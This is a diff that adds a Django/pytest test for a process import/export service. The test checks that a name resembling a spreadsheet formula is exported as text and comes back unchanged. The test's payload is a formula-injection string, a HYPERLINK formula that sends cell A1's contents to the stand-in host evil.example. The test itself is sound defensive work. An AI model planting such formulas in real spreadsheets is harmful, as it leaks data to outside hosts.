@@ -85,3 +85,18 @@ def test_rows_outside_the_importers_units_are_refused(org: Any, author: Any) -> 
         services.process_import(actor=author, content=_workbook([header, ["banking", "sh", "上海流程", "",
                                                                           org.shanghai.code, True]]))
     assert "row 2" in exc.value.fields
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_comes_back_the_same(
+        org: Any, login_client: Any, author: Any) -> None:
+    # openpyxl would store "=…" as a formula, run by the Excel of whoever opens the export (formula injection)
+    payload = '=HYPERLINK("https://evil.example/?d="&A1,"详情")'
+    f.make_process(org.beijing, code="counter", name=payload)
+    client = login_client(author)
+    content = client.get("/governance/processes/?format=xlsx").content
+    cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for c in row]
+    [cell] = [c for c in cells if c.value == payload]
+    assert cell.data_type == "s"
+    response = client.post("/governance/processes/import/", {"file": SimpleUploadedFile("p.xlsx", content)})
+    assert response.status_code == 200, response.content.decode()[:500]
+    assert Process.objects.get(code="counter").name == payload
